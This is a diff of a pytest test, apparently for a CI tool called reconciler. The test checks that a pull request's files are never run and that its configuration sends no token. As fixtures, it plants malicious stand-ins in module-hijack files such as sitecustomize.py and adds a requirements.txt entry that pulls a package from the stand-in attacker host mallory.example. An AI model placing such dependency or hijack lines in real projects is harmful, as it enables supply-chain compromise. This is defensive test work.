@@ -11,6 +11,7 @@ from typing import TYPE_CHECKING, Final
 
 import pytest
 
+from reconciler.pipeline import CHECK
 from tests.support.cli import Shell
 from tests.support.rehearsal import PIN, REF, TAGS, soc
 from tests.support.repositories import git
@@ -146,6 +147,7 @@ def test_nothing_of_a_pull_request_is_run_and_its_configuration_sends_no_token(
     files |= {f"{name}.py": evil for name in ("sitecustomize", "usercustomize", "yaml", "httpx")}
     files |= {"reconciler/__init__.py": evil, "reconciler/cli/main.py": evil}
     files |= {"requirements.txt": f"evil @ git+https://mallory.example/x@{'0b' * 20}\n"}
+    files |= {"requirements.lock": "evil\n", CHECK: evil}
     files |= {"reconciler.yaml": config.replace(team.graph.url, "http://127.0.0.1:9")}
     files |= {".reconciler/journal/contoso/x.jsonl": "{}", "plans": Path("../base")}
 
@@ -156,9 +158,14 @@ def test_nothing_of_a_pull_request_is_run_and_its_configuration_sends_no_token(
     assert "::warning file=reconciler.yaml::The plan is made with the base branch's" in run.log
     for job in run.jobs.values():
         assert job.machine
-        installed = (job.machine / "installed").read_text("utf-8")
-        pip = "pip install --quiet --requirement requirements.txt"
-        assert installed == f"{job.machine}/work/base: {pip}\n"
+        installed = (job.machine / "installed").read_text("utf-8").splitlines()
+        made = f"{job.machine}/temp/reconciler"
+        assert [line.removeprefix(f"{job.machine}/work/base: ") for line in installed] == [
+            f"pip install --quiet --require-hashes --only-binary :all: --requirement {made}/locked.txt",
+            f"pip install --quiet --no-deps --no-build-isolation --requirement {made}/tool.txt",
+            "pip check",
+        ]
+        assert Path(f"{made}/tool.txt").read_text("utf-8") == PIN
     assert team.identities() == {("pull_request", "reader")}
 
 
